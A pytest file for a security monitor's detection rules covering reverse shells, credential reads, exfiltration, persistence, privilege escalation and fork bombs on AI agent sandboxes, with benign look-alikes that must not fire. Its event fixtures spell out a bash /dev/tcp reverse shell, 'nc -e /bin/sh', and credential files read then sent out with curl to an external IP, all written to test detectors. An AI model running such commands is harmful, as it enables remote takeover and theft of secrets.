"""The bundled rules: they load and lint clean, each fires on its behaviour and not on its
look-alike, and ordinary build work fires nothing. Events are built with the model classes."""

from __future__ import annotations

from pathlib import Path
from typing import Any, Callable

import pytest

from coi_sentinel.assets import asset_dir
from coi_sentinel.rules import Engine, SessionInfo, load_ruleset
from coi_sentinel.rules.fields import markdown_table
from coi_sentinel.rules.lint import lint

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def bundled() -> Any:
    return load_ruleset(None)


@pytest.fixture
def fire(bundled: Any) -> Callable[..., list[str]]:
    def _fire(*events: Any, sessions: Any = None) -> list[str]:
        alerts: list = []
        engine = Engine(bundled, on_alert=alerts.append, sessions=sessions)
        for e in events:
            engine.feed(e)
        return [a.rule for a in alerts]
    return _fire


def test_bundled_rules_load_and_lint_clean() -> None:
    report = lint()
    assert [str(d) for d in report.diagnostics] == []
    assert report.rules >= 35
    assert all(f.startswith("rules/") for f in report.files)
    assert asset_dir("rules").joinpath("common.yaml").is_file()


def test_every_bundled_rule_has_a_false_positive_note_and_a_tag(bundled: Any) -> None:
    for c in bundled.rules:
        assert len(c.rule.false_positives) > 20, c.id
        assert any(t.startswith("T1") for t in c.rule.tags), c.id


def test_every_bundled_rule_has_a_behaviour_test_here(bundled: Any) -> None:
    text = Path(__file__).read_text()
    assert [rid for rid in bundled.rule_ids if f'"{rid}"' not in text] == []


def test_docs_field_table_is_the_catalogue() -> None:
    doc = (ROOT / "docs" / "rules.md").read_text()
    assert markdown_table() in doc


def test_docs_list_every_bundled_rule(bundled: Any) -> None:
    doc = (ROOT / "docs" / "rules.md").read_text()
    for rid in bundled.rule_ids:
        assert f"`{rid}`" in doc, rid


def test_sensitive_sets_come_from_the_rules(bundled: Any) -> None:
    prefixes, suffixes = bundled.sensitive_prefixes(), bundled.sensitive_suffixes()
    assert "/etc/shadow" in prefixes and "/etc/gshadow" in prefixes
    for suffix in (".aws/credentials", ".kube/config", ".config/gcloud/credentials.db", "id_ed25519", "id_rsa",
                   ".env", "/environ", ".claude/.credentials.json", ".codex/auth.json"):
        assert suffix in suffixes, suffix
    # nothing so broad that every read would be reported
    assert not [p for p in prefixes if p in ("/", "/proc/", "/home/", "/etc/")]
    assert len(prefixes) <= 1024 and len(suffixes) <= 1024
    assert all(0 < len(x.encode()) < 256 for x in prefixes + suffixes)


# ---- reverse shells -------------------------------------------------------------------------

def test_renamed_bash_with_a_socket_dup_onto_stdin_and_stdout(fire: Any, ev: Any) -> None:
    got = fire(ev.exec(300, "/home/code/.cache/kworker", "kworker", "-i", comm="kworker"),
               ev.connect(300, "203.0.113.9", 8443, fd=3, errno=115),
               ev.dup(300, 3, 0, is_socket=True, daddr="203.0.113.9", dport=8443),
               ev.dup(300, 3, 1, is_socket=True, daddr="203.0.113.9", dport=8443))
    assert got == ["reverse_shell_socket_dup"]


def test_socket_on_stdin_alone_is_not_a_shell_loop(fire: Any, ev: Any) -> None:
    # a service handing a child a socket on one fd (incusd runs helpers like that)
    got = fire(ev.exec(300, "/usr/bin/btrfs", "btrfs", "qgroup", comm="btrfs"),
               ev.dup(300, 54, 0, is_socket=True, daddr="10.123.45.1", dport=67),
               ev.dup(300, 56, 1), ev.dup(300, 58, 2))
    assert got == []


def test_bash_dev_tcp_redirection(fire: Any, ev: Any) -> None:
    # bash -i >& /dev/tcp/127.0.0.1/9001 0>&1: bash connects, dup2(3, 1), dup2(1, 2), dup2(1, 0);
    # the kernel flags only the first, the process table knows fd 1 is the socket afterwards
    got = fire(ev.exec(300, "/usr/bin/bash", "bash", "-i"),
               ev.connect(300, "127.0.0.1", 9001, fd=3),
               ev.dup(300, 3, 1, is_socket=True, daddr="127.0.0.1", dport=9001),
               ev.dup(300, 1, 2), ev.dup(300, 1, 0))
    assert got == ["reverse_shell_socket_dup"]   # once stdin and stdout are both the socket


def test_nc_e_shell(fire: Any, ev: Any) -> None:
    got = fire(ev.exec(300, "/usr/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.9", "8443"),
               ev.connect(300, "203.0.113.9", 8443, fd=3),
               *(ev.dup(300, 3, fd, is_socket=True, daddr="203.0.113.9", dport=8443) for fd in (0, 1, 2)),
               ev.exec(300, "/bin/sh", "sh"))
    assert got == ["reverse_shell_socket_dup"] * 2 + ["reverse_shell_exec_socket_stdio"]  # dups onto 1 and 2


def test_python_one_liner_with_subprocess(fire: Any, ev: Any) -> None:
    got = fire(ev.exec(300, "/usr/bin/python3.11", "python3", "-c", "import socket,subprocess;..."),
               ev.connect(300, "::1", 7000, fd=3),
               ev.fork(300, 301, comm="python3"),
               *(ev.dup(301, 3, fd, is_socket=True, daddr="::1", dport=7000, ppid=300) for fd in (0, 1, 2)),
               ev.exec(301, "/bin/sh", "sh", "-i", ppid=300))
    assert got == ["reverse_shell_socket_dup"] * 2 + ["reverse_shell_exec_socket_stdio"]  # dups onto 1 and 2


def test_not_reverse_shells(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(300, "/usr/bin/ssh", "ssh", "git@github.com"), ev.connect(300, "140.82.112.3", 22, fd=3),
                ev.dup(300, 5, 0), ev.exec(301, "/bin/bash", "bash")) == []
    # a unix socket on stdio (a terminal multiplexer, a supervisor) is not a network socket
    assert fire(ev.connect(400, "/run/user/1000/tmux", 0, fd=3),
                ev.dup(400, 3, 0, is_socket=True, daddr="/run/user/1000/tmux"), ev.exec(400, "/bin/bash")) == []


# ---- network ---------------------------------------------------------------------------------

def test_cloud_metadata(fire: Any, ev: Any) -> None:
    assert fire(ev.connect(10, "169.254.169.254", 80)) == ["cloud_metadata_connect"]
    assert fire(ev.connect(10, "fd00:ec2::254", 80, errno=101)) == ["cloud_metadata_connect"]
    assert fire(ev.connect(10, "100.100.100.200", 80)) == ["cloud_metadata_connect"]
    assert fire(ev.connect(10, "1.1.1.1", 443), ev.connect(10, "169.254.169.253", 53)) == []


def test_private_network_in_restricted_sessions(fire: Any, ev: Any) -> None:
    restricted = lambda e: SessionInfo("s1", "claude", "restricted")  # noqa: E731
    opened = lambda e: SessionInfo("s1", "claude", "open")  # noqa: E731
    assert fire(ev.connect(10, "10.0.0.8", 22), sessions=restricted) == ["private_network_connect_restricted"]
    assert fire(ev.connect(10, "fe80::1", 80), sessions=restricted) == ["private_network_connect_restricted"]
    assert fire(ev.connect(10, "10.123.45.1", 53), sessions=restricted) == []        # DNS to the bridge
    assert fire(ev.connect(10, "127.0.0.1", 8080), sessions=restricted) == []
    assert fire(ev.connect(10, "10.0.0.8", 22), sessions=opened) == []
    assert fire(ev.connect(10, "10.0.0.8", 22)) == []


def test_c2_and_miner_ports(fire: Any, ev: Any) -> None:
    assert fire(ev.connect(10, "203.0.113.5", 4444)) == ["c2_or_miner_port_connect"]
    assert fire(ev.connect(10, "203.0.113.5", 14444, family="inet")) == ["c2_or_miner_port_connect"]
    assert fire(ev.connect(10, "127.0.0.1", 4444), ev.connect(10, "203.0.113.5", 443)) == []


# ---- credentials -----------------------------------------------------------------------------

def test_credential_reads(fire: Any, ev: Any) -> None:
    assert fire(ev.open(10, "/home/code/.ssh/id_ed25519", comm="cat")) == ["ssh_private_key_read"]
    assert fire(ev.open(10, "/home/code/.aws/credentials", comm="python3")) == ["cloud_credential_read"]
    assert fire(ev.open(10, ".kube/config", comm="node")) == ["cloud_credential_read"]
    assert fire(ev.open(10, "/workspace/.env", comm="node")) == ["dotenv_file_read"]
    assert fire(ev.open(10, "/etc/shadow", comm="cat")) == ["shadow_file_read"]
    assert fire(ev.open(10, "/proc/4242/environ", comm="cat")) == ["other_process_environ_read"]
    assert fire(ev.open(10, "/home/code/.claude/.credentials.json", comm="cat")) == ["agent_credential_read_by_other"]


def test_credential_reads_by_their_own_tools(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/ssh", "ssh", "host"), ev.open(10, "/home/code/.ssh/id_ed25519")) == []
    assert fire(ev.exec(11, "/usr/local/bin/aws", "aws", "s3", "ls"), ev.open(11, "/home/code/.aws/credentials")) == []
    assert fire(ev.exec(12, "/usr/bin/python3", "python3", "/usr/lib/google-cloud-sdk/lib/gcloud.py", "auth"),
                ev.open(12, "/home/code/.config/gcloud/credentials.db")) == []
    assert fire(ev.exec(13, "/usr/sbin/unix_chkpwd", "unix_chkpwd"), ev.open(13, "/etc/shadow")) == []
    assert fire(ev.exec(14, "/usr/bin/node", "claude", comm="claude"),
                ev.open(14, "/home/code/.claude/.credentials.json", comm="claude")) == []
    assert fire(ev.open(15, "/proc/self/environ"), ev.open(15, "/proc/15/environ"),
                ev.open(15, "/home/code/.ssh/id_ed25519.pub"), ev.open(15, "/workspace/.env.example")) == []
    # a write open of a secret file is not a read
    assert fire(ev.open(16, "/home/code/.aws/credentials", kind="write", comm="vim")) == []


# ---- exfiltration ----------------------------------------------------------------------------

def shell(ev: Any) -> tuple:
    return (ev.fork(100, 200, comm="claude"), ev.exec(200, "/bin/bash", "bash", "-c", "...", ppid=100))


def test_secret_read_then_connect_from_the_same_tree(fire: Any, ev: Any) -> None:
    got = fire(*shell(ev), ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100),
               ev.exec(201, "/usr/bin/cat", "cat", "/home/code/.aws/credentials", ppid=200),
               ev.open(201, "/home/code/.aws/credentials", ppid=200, comm="cat"),
               ev.exec(202, "/usr/bin/curl", "curl", "-d", "@-", "https://203.0.113.7", ppid=200),
               ev.connect(202, "203.0.113.7", 443, ppid=200, comm="curl", errno=115))
    assert got == ["cloud_credential_read", "exfil_secret_read_then_connect"]


def test_secret_use_by_its_tool_is_not_exfiltration(fire: Any, ev: Any) -> None:
    # git push over ssh: ssh reads the key and connects
    assert fire(*shell(ev), ev.fork(200, 201, ppid=100),
                ev.exec(201, "/usr/bin/ssh", "ssh", "git@github.com", ppid=200),
                ev.open(201, "/home/code/.ssh/id_ed25519", ppid=200, comm="ssh"),
                ev.connect(201, "140.82.112.3", 22, ppid=200, comm="ssh")) == []
    # a read in one command and a connect in another command of the agent
    assert fire(*shell(ev), ev.fork(100, 300, comm="claude"), ev.exec(300, "/bin/bash", "bash", ppid=100),
                ev.fork(200, 201, ppid=100), ev.fork(300, 301, ppid=100),
                ev.open(201, "/home/code/.ssh/id_rsa", ppid=200, comm="cat"),
                ev.connect(301, "203.0.113.7", 443, ppid=300, comm="curl")) == ["ssh_private_key_read"]


def test_env_dump_piped_to_the_network(fire: Any, ev: Any) -> None:
    got = fire(*shell(ev), ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100),
               ev.exec(201, "/usr/bin/env", "env", ppid=200),
               ev.exec(202, "/usr/bin/curl", "curl", "-d", "@-", "https://203.0.113.7", ppid=200),
               ev.connect(202, "203.0.113.7", 443, ppid=200, comm="curl"))
    assert got == ["exfil_env_dump_to_network"]
    assert fire(*shell(ev), ev.fork(200, 201, ppid=100),
                ev.exec(201, "/usr/bin/env", "env", "CC=gcc", "make", ppid=200),
                ev.connect(201, "203.0.113.7", 443, ppid=200)) == []


def test_bytes_out_threshold(fire: Any, ev: Any) -> None:
    assert fire(ev.send(10, "203.0.113.7", 443, 30_000_000), ev.send(10, "203.0.113.7", 443, 30_000_000)) == [
        "exfil_bytes_out_threshold"]
    assert fire(ev.send(10, "127.0.0.1", 5432, 100_000_000), ev.send(10, "203.0.113.7", 443, 40_000_000)) == []


# ---- persistence -----------------------------------------------------------------------------

@pytest.mark.parametrize("path, rule", [
    (".git/hooks/pre-commit", "persistence_git_hook_write"),
    ("/workspace/.git/config", "persistence_git_config_write"),
    (".vscode/tasks.json", "persistence_repo_automation_write"),
    ("/workspace/.github/workflows/ci.yml", "persistence_repo_automation_write"),
    (".husky/pre-push", "persistence_repo_automation_write"),
    ("/home/code/.bashrc", "persistence_shell_rc_write"),
    ("/etc/profile.d/x.sh", "persistence_shell_rc_write"),
    ("/etc/cron.d/job", "persistence_cron_write"),
    ("/var/spool/cron/crontabs/code", "persistence_cron_write"),
    ("/home/code/.ssh/authorized_keys", "persistence_authorized_keys_write"),
    ("/etc/sudoers.d/code", "persistence_sudoers_write"),
    ("/etc/systemd/system/x.service", "persistence_service_unit_write"),
    ("/home/code/.config/systemd/user/x.service", "persistence_service_unit_write"),
])
def test_persistence_writes(fire: Any, ev: Any, path: str, rule: str) -> None:
    assert fire(ev.exec(10, "/usr/bin/python3", "python3", "x.py"), ev.open(10, path, kind="write")) == [rule]
    # a failed attempt (read-only protected path) is reported too
    assert fire(ev.open(11, path, kind="write", errno=30)) == [rule]
    # so is a rename onto the path
    assert fire(ev.rename(12, "/tmp/staged", path)) == [rule]


def test_persistence_writes_by_their_own_tools(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/git", "git", "init"), ev.open(10, ".git/config", kind="write"),
                ev.open(10, ".git/hooks/pre-commit.sample", kind="write")) == []
    assert fire(ev.exec(11, "/usr/local/bin/pre-commit", "pre-commit", "install"),
                ev.open(11, ".git/hooks/pre-commit", kind="write")) == []
    assert fire(ev.exec(12, "/usr/bin/dpkg", "dpkg", "-i", "x.deb"), ev.open(12, "/etc/cron.d/x", kind="write"),
                ev.chmod(12, "/usr/bin/sudo", 0o4755)) == []
    assert fire(ev.open(13, "/workspace/src/main.py", kind="write"), ev.open(13, "/home/code/.bash_history",
                                                                             kind="write")) == []
    # reading a persistence file is not writing it
    assert fire(ev.open(14, "/home/code/.bashrc", kind="sensitive")) == []


def test_git_config_that_runs_commands(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/git", "git", "config", "core.fsmonitor", "touch /tmp/x")) == [
        "git_config_code_execution"]
    assert fire(ev.exec(10, "/usr/bin/git", "git", "-c", "core.hooksPath=/tmp/h", "commit")) == [
        "git_config_code_execution"]
    assert fire(ev.exec(10, "/usr/bin/git", "git", "config", "user.name", "x")) == []


def test_setuid_bits(fire: Any, ev: Any) -> None:
    assert fire(ev.chmod(10, "/tmp/sh", 0o4755)) == ["setuid_bit_set"]
    assert fire(ev.chmod(10, "/srv/shared", 0o2775)) == ["setuid_bit_set"]
    assert fire(ev.chmod(10, "/tmp/sh", 0o755)) == []
    assert fire(ev.chmod(10, "/tmp/sh", 0o4755)) and "04755" in _output(fire, ev.chmod(10, "/tmp/sh", 0o4755))


def _output(fire: Any, event: Any) -> str:
    alerts: list = []
    eng = Engine(load_ruleset(None), on_alert=alerts.append)
    eng.feed(event)
    return alerts[0].output


# ---- execution tricks ------------------------------------------------------------------------

def test_exec_tricks(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/memfd:payload (deleted)", "x", flags=1 << 3)) == ["exec_from_memfd"]
    assert fire(ev.exec(10, "/memfd:runc_cloned:/proc/self/exe (deleted)", "runc", comm="runc:[1:CHILD]")) == []
    assert fire(ev.exec(10, "/dev/shm/x")) == ["exec_from_dev_shm"]
    assert fire(ev.exec(10, "/tmp/x")) == ["exec_from_tmp"]
    assert fire(ev.exec(10, "/tmp/go-build2981/b001/exe/main")) == []
    assert fire(ev.exec(10, "/home/code/x (deleted)", flags=1 << 2)) == ["exec_deleted_file"]
    assert fire(ev.exec(10, "/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "/tmp/noexec/x")) == [
        "exec_ld_so_direct"]
    assert fire(ev.exec(10, "/lib/ld-musl-x86_64.so.1", "ld-musl-x86_64.so.1", "./x")) == ["exec_ld_so_direct"]
    assert fire(ev.exec(20, "/bin/bash", "/bin/bash", "/usr/bin/ldd", "/bin/ls"), ev.fork(20, 21),
                ev.exec(21, "/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "--verify", "/bin/ls",
                        ppid=20)) == []
    assert fire(ev.exec(10, "/opt/xmrig/xmrig", "xmrig")) == ["crypto_miner_exec"]
    assert fire(ev.exec(10, "/home/code/syst", "syst", "-o", "stratum+tcp://pool.example:3333")) == [
        "crypto_miner_exec"]
    assert fire(ev.exec(10, "/failed/xmrig", errno=2)) == []


def test_downloaded_file_executed(fire: Any, ev: Any) -> None:
    got = fire(ev.exec(10, "/usr/bin/curl", "curl", "-o", "tool", "https://x"),
               ev.open(10, "tool", kind="write", comm="curl"),
               ev.exec(11, "/workspace/tool", "./tool"))
    assert got == ["exec_downloaded_file"]
    # "curl URL > tool": the shell opens the file; curl's write summary names it
    got = fire(ev.exec(20, "/bin/bash", "bash"), ev.fork(20, 21),
               ev.open(21, "tool2", kind="write", comm="bash", ppid=20),
               ev.exec(21, "/usr/bin/curl", "curl", "https://x", ppid=20),
               ev.write_summary(21, "tool2", 5000, comm="curl", ppid=20),
               ev.exec(22, "/workspace/tool2", "./tool2"))
    assert got == ["exec_downloaded_file"]
    assert fire(ev.exec(10, "/usr/bin/curl", "curl", "-o", "x.tar.gz", "https://x"),
                ev.open(10, "x.tar.gz", kind="write", comm="curl"), ev.exec(11, "/usr/bin/tar", "tar", "xf")) == []


# ---- escalation and escape -------------------------------------------------------------------

def test_escalation(fire: Any, ev: Any) -> None:
    assert fire(ev.exec(10, "/usr/bin/sudo", "sudo", "id")) == ["privilege_tool_exec"]
    assert fire(ev.priv(10, "finit_module", 3, 0, "")) == ["kernel_module_load"]
    assert fire(ev.priv(10, "ptrace", 16, 4242)) == ["ptrace_attach_other_process"]
    assert fire(ev.fork(10, 11), ev.priv(10, "ptrace", 0x4206, 11)) == []           # a debugger's own child
    assert fire(ev.priv(10, "ptrace", 0, 0)) == []                                    # PTRACE_TRACEME
    assert fire(ev.priv(10, "unshare", 0x10000000)) == ["namespace_or_mount_in_container"]
    assert fire(ev.priv(10, "mount", 0, 0, "/mnt", errno=1)) == ["namespace_or_mount_in_container"]
    assert fire(ev.exec(10, "/usr/bin/bwrap", "bwrap"), ev.priv(10, "unshare", 0x10000000)) == []
    ev.container = "host"
    assert fire(ev.priv(10, "unshare", 0x10000000)) == []
    ev.container = "agent-1"
    assert fire(ev.exec(10, "/usr/bin/python3", "python3"), ev.priv(10, "io_uring_setup", 8)) == [
        "io_uring_unexpected"]
    assert fire(ev.exec(10, "/usr/bin/fio", "fio"), ev.priv(10, "io_uring_setup", 8)) == []
    assert fire(ev.priv(10, "memfd_create", 0, 0, "x"), ev.priv(10, "setns", 3, 0, errno=1)) == [
        "namespace_or_mount_in_container"]


def test_fork_bomb(fire: Any, ev: Any) -> None:
    """Judged by processes that stay: forks count while more than 500 are alive."""
    t0 = 50_000_000_000
    # 1,100 children that stay, 0.5 ms apart: forks 501.. count, the 501st counted one fires
    assert fire(*(ev.fork(10, 1000 + i, ts=t0 + i * 500_000) for i in range(1100))) == ["fork_bomb"]
    # the same, 2.1 ms apart: at most 477 counted forks within a second
    assert fire(*(ev.fork(10, 1000 + i, ts=t0 + i * 2_100_000) for i in range(1100))) == []


def test_fork_bursts_of_short_lived_processes_are_no_fork_bomb(fire: Any, ev: Any) -> None:
    """A build or an exec loop: 3,000 forks in 0.3 s, each child exits (two alive at most)."""
    t0 = 50_000_000_000
    events = []
    for i in range(3000):
        ts = t0 + i * 100_000
        events += [ev.fork(10, 1000 + i, ts=ts), ev.exec(1000 + i, "/bin/true", "true", ppid=10, ts=ts + 1),
                   ev.exit(1000 + i, ppid=10, ts=ts + 2)]
    assert fire(*events) == []


# ---- ordinary work ---------------------------------------------------------------------------

def build_like_workload(ev: Any) -> list:
    """Compile C files, run a test suite, git operations, pip install from a local wheel, an
    agent talking to its API and reading its own credentials, ldd, ssh for git push."""
    out = [ev.exec(100, "/usr/bin/node", "claude", comm="claude"),
           ev.open(100, "/home/code/.claude/.credentials.json", comm="claude"),
           ev.connect(100, "160.79.104.10", 443, comm="claude", errno=115),
           ev.send(100, "160.79.104.10", 443, 250_000, comm="claude")]
    pid = 200
    out += [ev.fork(100, pid, comm="claude"), ev.exec(pid, "/bin/bash", "bash", "-c", "make", ppid=100)]
    for i in range(5):
        c = pid + 1 + i * 10
        out += [ev.fork(pid, c, ppid=100), ev.exec(c, "/usr/bin/gcc", "gcc", "-c", f"f{i}.c", ppid=pid),
                ev.fork(c, c + 1, ppid=pid),
                ev.exec(c + 1, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1", f"f{i}.c", ppid=c),
                ev.open(c + 1, f"/tmp/cc{i}.s", kind="write", ppid=c, comm="cc1"),
                ev.exit(c + 1, ppid=c), ev.fork(c, c + 2, ppid=pid),
                ev.exec(c + 2, "/usr/bin/as", "as", "-o", f"f{i}.o", ppid=c),
                ev.open(c + 2, f"f{i}.o", kind="write", ppid=c, comm="as"),
                ev.write_summary(c + 2, f"f{i}.o", 9000, ppid=c, comm="as"),
                ev.unlink(c, f"/tmp/cc{i}.s", ppid=pid, comm="gcc"), ev.exit(c + 2, ppid=c), ev.exit(c, ppid=pid)]
    out += [ev.exec(260, "/usr/bin/ld", "ld", "-o", "app", ppid=pid), ev.open(260, "app", kind="write", comm="ld"),
            ev.chmod(260, "app", 0o755), ev.exec(261, "/workspace/app", "./app", ppid=pid)]
    # tests: pytest writes caches, reads nothing secret, talks to a local database
    out += [ev.exec(270, "/usr/bin/python3.11", "python3", "-m", "pytest", "-q", ppid=pid),
            ev.open(270, "tests/__pycache__/test_x.cpython-311.pyc", kind="write", comm="python3"),
            ev.connect(270, "127.0.0.1", 5432, comm="python3"), ev.send(270, "127.0.0.1", 5432, 5000),
            ev.fork(270, 271), ev.exec(271, "/tmp/pytest-of-code/pytest-3/test_cli0/bin/tool", "tool", ppid=270),
            ev.exit(271, ppid=270), ev.exit(270, ppid=pid)]
    # git
    out += [ev.exec(280, "/usr/bin/git", "git", "init", ppid=pid),
            ev.open(280, ".git/config", kind="write", comm="git"), ev.open(280, ".git/HEAD", kind="write", comm="git"),
            ev.open(280, ".git/hooks/pre-push.sample", kind="write", comm="git"),
            ev.exec(281, "/usr/bin/git", "git", "commit", "-qm", "x", ppid=pid),
            ev.open(281, ".git/objects/ab/cdef", kind="write", comm="git"),
            ev.open(281, ".git/index.lock", kind="write", comm="git"),
            ev.rename(281, ".git/index.lock", ".git/index", comm="git"),
            ev.exec(282, "/usr/bin/git", "git", "push", ppid=pid), ev.fork(282, 283),
            ev.exec(283, "/usr/bin/ssh", "ssh", "git@github.com", ppid=282),
            ev.open(283, "/home/code/.ssh/id_ed25519", comm="ssh", ppid=282),
            ev.connect(283, "140.82.112.3", 22, comm="ssh", ppid=282),
            ev.send(283, "140.82.112.3", 22, 40_000, comm="ssh", ppid=282)]
    # pip install from a local wheel
    out += [ev.exec(290, "/usr/bin/python3.11", "python3", "-m", "pip", "install", "dist/pkg-1.0-py3-none-any.whl",
                    ppid=pid),
            *(ev.open(290, f"/home/code/.local/lib/python3.11/site-packages/pkg/m{i}.py", kind="write",
                      comm="python3") for i in range(5)),
            ev.open(290, "/home/code/.local/bin/pkg", kind="write", comm="python3"),
            ev.chmod(290, "/home/code/.local/bin/pkg", 0o755, comm="python3")]
    # ldd, tmux
    out += [ev.exec(295, "/bin/bash", "/bin/bash", "/usr/bin/ldd", "app", ppid=pid), ev.fork(295, 296),
            ev.exec(296, "/lib64/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "--verify", "app", ppid=295),
            ev.exec(297, "/usr/bin/tmux", "tmux", "new", "-d", ppid=pid),
            ev.connect(297, "/tmp/tmux-1000/default", 0, comm="tmux")]
    return out


def test_ordinary_build_work_fires_nothing(fire: Any, ev: Any) -> None:
    assert fire(*build_like_workload(ev)) == []
